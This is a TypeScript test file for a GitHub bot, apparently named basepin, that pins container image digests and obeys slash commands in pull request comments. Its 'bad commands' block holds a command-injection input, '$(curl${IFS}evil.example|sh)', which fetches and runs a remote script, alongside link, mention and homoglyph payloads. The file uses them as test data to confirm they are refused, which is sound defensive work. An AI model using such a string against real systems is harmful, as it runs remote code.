import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { handleComment } from '../../src/comments/handle-comment.ts';
import { readDashboardState } from '../../src/dashboard/issue-body/state.ts';
import type { GitHubStub } from '../support/github-stub.ts';
import {
  comment,
  commentSettings,
  harness,
  otherWrites,
  served,
  startStub,
  writes,
  type Harness,
} from './comment-fixtures.ts';
import { commentMarker, markComment } from '../../src/text/marks.ts';

let stub: GitHubStub;
let h: Harness;

beforeEach(async () => {
  stub = await startStub();
  h = harness(stub);
  await h.propose();
  stub.resetRequests();
});

afterEach(async () => {
  await stub.stop();
});

const pr = () => stub.pullRequests().find((p) => p.head.ref === 'basepin/all')!;
/** The last reply's text after its marker (every reply opens with it, so no reply parses as a command). */
const lastReply = (number: number) => {
  const body = stub.comments(number).at(-1)?.body ?? '';
  expect(body.startsWith(`${commentMarker}\n`)).toBe(true);
  return body.slice(commentMarker.length + 1);
};

describe('who may command', () => {
  it.each([
    ['ada', 'admin'],
    ['max', 'maintain'],
    ['wes', 'write'],
  ])('%s (%s) may rebase', async (user) => {
    const event = comment(stub, pr().number, user, '/basepin rebase');
    const outcome = await handleComment(event, commentSettings(stub), h.deps());
    expect(outcome).toMatchObject({ kind: 'done', command: 'rebase' });
    expect(stub.reactions(event.commentId)).toEqual(['eyes', '+1']);
  });

  it.each([
    ['tri', 'triage'],
    ['rea', 'read'],
    ['non', 'none'],
    ['ghost', 'none'],
  ])('%s (%s) gets a polite refusal and causes no other write', async (user, level) => {
    const before = stub.branchSha('basepin/all');
    const event = comment(stub, pr().number, user, '/basepin ignore alpine');
    const outcome = await handleComment(event, commentSettings(stub), h.deps());
    expect(outcome).toMatchObject({ kind: 'refused' });
    expect(stub.reactions(event.commentId)).toEqual(['eyes', '-1']);
    expect(lastReply(pr().number)).toBe(
      `basepin: basepin commands need write permission on this repository; \`${user}\` has ${level}. Nothing was done.`,
    );
    expect(otherWrites(stub)).toEqual([]);
    expect(stub.branchSha('basepin/all')).toBe(before);
    expect(stub.issues()).toEqual([]);
  });

  it('command-permission raises the bar', async () => {
    const event = comment(stub, pr().number, 'max', '/basepin rebase');
    const outcome = await handleComment(
      event,
      commentSettings(stub, { commandPermission: 'admin' }),
      h.deps(),
    );
    expect(outcome).toMatchObject({ kind: 'refused' });
    expect(lastReply(pr().number)).toContain('need admin permission');
  });

  it.each([
    ['a bot', { authorType: 'Bot' }, '/basepin rebase'],
    ['an edited comment', { action: 'edited' }, '/basepin rebase'],
    ['an ordinary comment', {}, 'LGTM, thanks'],
  ])('%s is ignored without a word', async (_name, changes, body) => {
    const event = comment(stub, pr().number, 'ada', body, changes);
    stub.resetRequests();
    expect(await handleComment(event, commentSettings(stub), h.deps())).toMatchObject({ kind: 'ignored' });
    expect(writes(stub)).toEqual([]);
  });

  it("basepin's own comment is known by its marker, whoever posted it", async () => {
    const reply = markComment('basepin: run `/basepin rebase` here');
    const event = comment(stub, pr().number, 'ada', reply, { authorType: 'User' });
    stub.resetRequests();
    expect(await handleComment(event, commentSettings(stub), h.deps())).toMatchObject({
      kind: 'ignored',
      why: "basepin's own comment",
    });
    expect(writes(stub)).toEqual([]);
  });

  it('a comment by the login basepin writes as is a command like any other (a personal token)', async () => {
    // The stub's token writes as github-actions[bot]; without a permission of its own, it is refused as
    // anyone would be, not skipped as basepin's own.
    const event = comment(stub, pr().number, 'github-actions[bot]', '/basepin help', { authorType: 'User' });
    expect(await handleComment(event, commentSettings(stub), h.deps())).toMatchObject({ kind: 'refused' });
    expect(lastReply(pr().number)).toContain('`github-actions[bot]` has none');
  });
});

describe('bad commands', () => {
  it.each([
    ['/basepin merge', 'that is not a basepin command'],
    ['/basepin ignore $(curl${IFS}evil.example|sh)', 'the image is not a valid image reference'],
    ['/basepin ignore [x](https://evil.example) @everyone', '`ignore` takes one image'],
    [`/basepin ignore ${'a'.repeat(10_000)}`, 'the command line is longer than 512 characters'],
    ['/basepin ignore аlpine', 'the image is not a valid image reference'],
  ])('%#: the reason and the help, nothing echoed', async (body, reason) => {
    const event = comment(stub, pr().number, 'wes', body);
    expect(await handleComment(event, commentSettings(stub), h.deps())).toMatchObject({ kind: 'refused' });
    const reply = lastReply(pr().number);
    expect(reply.startsWith(`basepin: ${reason}.\n\nbasepin commands`)).toBe(true);
    expect(reply).not.toMatch(/evil|@everyone|aaaaaaaaaa|аlpine/);
    expect(stub.reactions(event.commentId)).toEqual(['eyes', '-1']);
    expect(otherWrites(stub)).toEqual([]);
  });

  it('help lists the commands', async () => {
    const event = comment(stub, pr().number, 'wes', '/basepin help');
    expect(await handleComment(event, commentSettings(stub), h.deps())).toMatchObject({ kind: 'done' });
    expect(lastReply(pr().number)).toContain('`/basepin recreate`');
  });
});

describe('rebase and recreate', () => {
  it('rebase recomputes the branch on the current base', async () => {
    const base = stub.advanceBase({ 'README.md': 'moved on\n' });
    h.generation.seed = 'two';
    const event = comment(stub, pr().number, 'wes', '/basepin rebase');
    expect(await handleComment(event, commentSettings(stub), h.deps())).toMatchObject({ kind: 'done' });
    const head = stub.commit(stub.branchSha('basepin/all')!)!;
    expect(head.parents).toEqual([base]);
    expect(head.verified).toBe(true);
    expect(stub.fileAt('basepin/all', 'Dockerfile')).toContain(
      served('docker.io/library/alpine', '3.20', 'two'),
    );
    expect(lastReply(pr().number)).toBe('basepin: Rebased this pull request on the current base.');
  });

  it('rebase refuses a branch carrying someone else’s commit, saying whose; recreate replaces it', async () => {
    const theirs = stub.pushCommit('basepin/all', { 'NOTES.md': 'mine\n' }, 'A fix', 'monalisa');
    const event = comment(stub, pr().number, 'wes', '/basepin rebase');
    expect(await handleComment(event, commentSettings(stub), h.deps())).toMatchObject({ kind: 'refused' });
    expect(stub.branchSha('basepin/all')).toBe(theirs);
    expect(lastReply(pr().number)).toContain(`commit ${theirs.slice(0, 7)} by monalisa is not basepin's`);

    const again = comment(stub, pr().number, 'wes', '/basepin recreate');
    expect(await handleComment(again, commentSettings(stub), h.deps())).toMatchObject({ kind: 'done' });
    expect(stub.branchSha('basepin/all')).not.toBe(theirs);
    expect(stub.fileAt('basepin/all', 'NOTES.md')).toBeUndefined();
  });

  it('rebase works only on a basepin pull request', async () => {
    stub.pushCommit('feature', { 'x.txt': 'x\n' });
    const number = stub.openPullRequest({ head: 'feature', title: 'A feature' });
    const event = comment(stub, number, 'wes', '/basepin rebase');
    expect(await handleComment(event, commentSettings(stub), h.deps())).toMatchObject({ kind: 'refused' });
    expect(lastReply(number)).toContain('works on a pull request basepin opened');
  });
});

describe('ignore, unignore, ignored', () => {
  it('ignore on a PR records the rule in a new dashboard and recomputes the PR without the image', async () => {
    const number = pr().number;
    const event = comment(stub, number, 'wes', '/basepin ignore alpine');
    expect(await handleComment(event, commentSettings(stub), h.deps())).toMatchObject({ kind: 'done' });
    const [dashboard] = stub.issues();
    expect(dashboard).toMatchObject({
      title: 'basepin dashboard',
      user: 'github-actions[bot]',
      labels: ['basepin'],
    });
    const reading = readDashboardState(dashboard!.body);
    expect(reading).toMatchObject({
      kind: 'valid',
      state: {
        ignores: [
          {
            repository: 'docker.io/library/alpine',
            source: { issue: number, comment: event.commentId, by: 'wes' },
          },
        ],
      },
    });
    expect(stub.fileAt('basepin/all', 'Dockerfile')).toBe(stub.fileAt('main', 'Dockerfile'));
    expect(lastReply(number)).toContain(`Recomputed #${number} without it.`);

    const list = comment(stub, number, 'wes', '/basepin ignored');
    await handleComment(list, commentSettings(stub), h.deps());
    expect(lastReply(number)).toContain(
      '- `alpine` (every tag): [by `wes`](https://github.com/octo/app/issues/',
    );
    expect(lastReply(number)).toContain('- `ghcr.io/org/*`: `exclude-images` in the settings');
  });

  it('ignore closes a PR that proposed only that image; unignore on the dashboard undoes the rule', async () => {
    await stub.stop();
    stub = await startStub();
    h = harness(stub, 'image');
    await h.propose();
    const alpinePr = stub.pullRequests().find((p) => p.head.ref === 'basepin/alpine')!;
    const event = comment(stub, alpinePr.number, 'max', '/basepin ignore alpine:3.20');
    expect(await handleComment(event, commentSettings(stub), h.deps())).toMatchObject({ kind: 'done' });
    expect(stub.pullRequest(alpinePr.number)?.state).toBe('closed');
    expect(stub.branches()).not.toContain('basepin/alpine');
    expect(lastReply(alpinePr.number)).toContain(`Closed #${alpinePr.number}.`);

    const dashboard = stub.issues()[0]!.number;
    const undo = comment(stub, dashboard, 'max', '/basepin unignore alpine:3.20');
    expect(await handleComment(undo, commentSettings(stub), h.deps())).toMatchObject({ kind: 'done' });
    expect(readDashboardState(stub.issues()[0]!.body)).toMatchObject({ state: { ignores: [] } });
  });

  it('a look-alike dashboard opened by someone else is not the dashboard', async () => {
    const fake = stub.openIssue({ title: 'basepin dashboard', user: 'mallory', labels: ['basepin'] });
    const event = comment(stub, fake, 'wes', '/basepin ignore alpine');
    expect(await handleComment(event, commentSettings(stub), h.deps())).toMatchObject({ kind: 'refused' });
    expect(lastReply(fake)).toContain('works on a pull request basepin opened or on the dashboard issue');
  });
});

describe('pin', () => {
  function colleaguePr(): number {
    stub.pushCommit(
      'feature',
      {
        ...stub.filesAt('main'),
        'app/Dockerfile': 'FROM alpine:3.20\nRUN true\n',
        'app/main.go': 'package main\n',
      },
      'Add app',
      'colleague',
    );
    return stub.openPullRequest({ head: 'feature', title: 'Add the app' });
  }

  it('pins the changed Dockerfiles as one verified commit on the head branch, from the head seen', async () => {
    const number = colleaguePr();
    const seen = stub.branchSha('feature')!;
    const event = comment(stub, number, 'wes', '/basepin pin');
    expect(await handleComment(event, commentSettings(stub), h.deps())).toMatchObject({ kind: 'done' });
    const head = stub.commit(stub.branchSha('feature')!)!;
    expect(head.parents).toEqual([seen]);
    expect(head.verified).toBe(true);
    expect(stub.fileAt('feature', 'app/Dockerfile')).toBe(
      `FROM alpine:3.20@${served('docker.io/library/alpine', '3.20')}\nRUN true\n`,
    );
    expect(stub.fileAt('feature', 'Dockerfile')).toBe(stub.fileAt('main', 'Dockerfile'));
    expect(lastReply(number)).toMatch(
      /^basepin: Pinned 1 reference\(s\) in 1 file\(s\) in \[[0-9a-f]{7}\]\(https:\/\/github.com\/octo\/app\/commit\/[0-9a-f]{40}\)\.$/,
    );
  });

  it('pins the other kinds of files a pull request changes too, a values file only in a chart', async () => {
    const values = 'image:\n  registry: docker.io\n  repository: bitnami/redis\n  tag: "7.2"\n  digest: ""\n';
    stub.pushCommit(
      'feature',
      {
        ...stub.filesAt('main'),
        'compose.yaml': 'services:\n  db:\n    image: postgres:16 # the database\n',
        'charts/cache/Chart.yaml': 'apiVersion: v2\nname: cache\nversion: 1.0.0\n',
        'charts/cache/values.yaml': values,
        'config/values.yaml': values,
        'k8s/pod.yaml':
          'apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: a\n      image: nginx:1.27\n',
        'config/settings.yaml': 'image: not-a-site:1\n',
      },
      'Add services',
      'colleague',
    );
    const number = stub.openPullRequest({ head: 'feature', title: 'Add services' });
    const event = comment(stub, number, 'wes', '/basepin pin');
    expect(await handleComment(event, commentSettings(stub), h.deps())).toMatchObject({ kind: 'done' });
    expect(stub.fileAt('feature', 'compose.yaml')).toBe(
      `services:\n  db:\n    image: postgres:16@${served('docker.io/library/postgres', '16')} # the database\n`,
    );
    expect(stub.fileAt('feature', 'charts/cache/values.yaml')).toBe(
      values.replace('digest: ""', `digest: "${served('docker.io/bitnami/redis', '7.2')}"`),
    );
    expect(stub.fileAt('feature', 'k8s/pod.yaml')).toContain(
      `image: nginx:1.27@${served('docker.io/library/nginx', '1.27')}\n`,
    );
    // No Chart.yaml next to it: not a chart's values, and no Kubernetes manifest either.
    expect(stub.fileAt('feature', 'config/values.yaml')).toBe(values);
    expect(stub.fileAt('feature', 'config/settings.yaml')).toBe('image: not-a-site:1\n');
    expect(lastReply(number)).toMatch(/^basepin: Pinned 3 reference\(s\) in 3 file\(s\)/);
  });

  it('a branch that moved meanwhile is left alone, with a reply to comment again', async () => {
    const number = colleaguePr();
    const deps = h.deps();
    const moved = {
      ...deps,
      planFiles: async (files: ReadonlyMap<string, Buffer>) => {
        stub.pushCommit('feature', { 'late.txt': 'pushed while basepin worked\n' }, 'Late', 'colleague');
        return deps.planFiles(files);
      },
    };
    const event = comment(stub, number, 'wes', '/basepin pin');
    expect(await handleComment(event, commentSettings(stub), moved)).toMatchObject({ kind: 'refused' });
    expect(stub.fileAt('feature', 'app/Dockerfile')).toBe('FROM alpine:3.20\nRUN true\n');
    expect(lastReply(number)).toContain('The branch moved from');
    expect(stub.reactions(event.commentId)).toEqual(['eyes', '-1']);
  });

  it('refuses a pull request from a fork and reads nothing of it', async () => {
    const number = colleaguePr();
    const fromFork = {
      ...h.github,
      getPullRequest: async (n: number) => ({
        ...(await h.github.getPullRequest(n)),
        headRepository: 'mallory/app',
      }),
    };
    const event = comment(stub, number, 'wes', '/basepin pin');
    expect(await handleComment(event, commentSettings(stub), h.deps(fromFork))).toMatchObject({
      kind: 'refused',
    });
    expect(lastReply(number)).toContain(
      'is in `mallory/app`; basepin writes only to branches of this repository',
    );
    expect(stub.requests.some((r) => r.path.includes('/files') || r.path.includes('/contents/'))).toBe(false);
    expect(otherWrites(stub)).toEqual([]);
  });
});
